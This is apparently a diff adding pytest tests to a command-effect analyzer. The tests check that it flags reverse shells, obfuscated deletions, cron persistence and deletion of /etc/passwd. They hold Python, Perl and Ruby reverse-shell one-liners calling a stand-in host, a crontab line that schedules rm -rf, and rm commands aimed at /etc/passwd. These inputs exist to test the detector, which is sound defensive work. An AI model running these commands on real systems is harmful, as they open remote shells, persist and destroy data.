@@ -369,3 +369,38 @@ def test_every_handler_takes_no_arguments_and_odd_ones() -> None:
         for tail in ("", " --", " -", " -x", " a b c", " '' \"$X\"", " -o", " --output=", " *"):
             for effect in run(name + tail):
                 assert not unknown_flags(effect.flags), (name, tail, effect)
+
+
+@pytest.mark.parametrize(
+    ("language", "text"),
+    [
+        ("python", "import socket,subprocess as s\nc=socket.socket()\nc.connect(('203.0.113.9',9))\ns.call(['/bin/sh','-i'],stdin=c.fileno())"),
+        ("perl", "use Socket; connect(S, $a); open(STDIN, '>&S'); exec('/bin/sh -i');"),
+        ("ruby", "c = TCPSocket.new('203.0.113.9', 9); exec('/bin/sh -i <&3 >&3')"),
+    ],
+)  # fmt: skip
+def test_reverse_shells_are_flagged(language: str, text: str) -> None:
+    assert any("reverse-shell" in effect.flags for effect in code.effects(language, text, PLACE))
+
+
+def test_a_pattern_in_command_position_is_dynamic() -> None:
+    assert run("/???/r? -rf /opt/x")[0].certainty == "dynamic"
+
+
+def test_schedules_are_read() -> None:
+    found = run("(crontab -l; echo '0 * * * * rm -rf /opt/x') | crontab -")
+    assert {effect.kind for effect in found} >= {"persistence", "delete"}
+
+
+def test_no_target_hides_behind_many() -> None:
+    many = " ".join(f"f{n}" for n in range(100))
+    for text in (
+        f"rm {many} /etc/passwd",
+        f"for x in {many} /etc/passwd; do rm $x; done",
+        f"printf '%s\\n' {many} /etc/passwd | xargs -I{{}} rm {{}}",
+        f"rm {{{many.replace(' ', ',')},/etc/passwd}}",
+    ):
+        assert any(
+            effect.kind == "delete" and (effect.target == "/etc/passwd" or effect.certainty == "dynamic")
+            for effect in run(text)
+        ), text[:40]
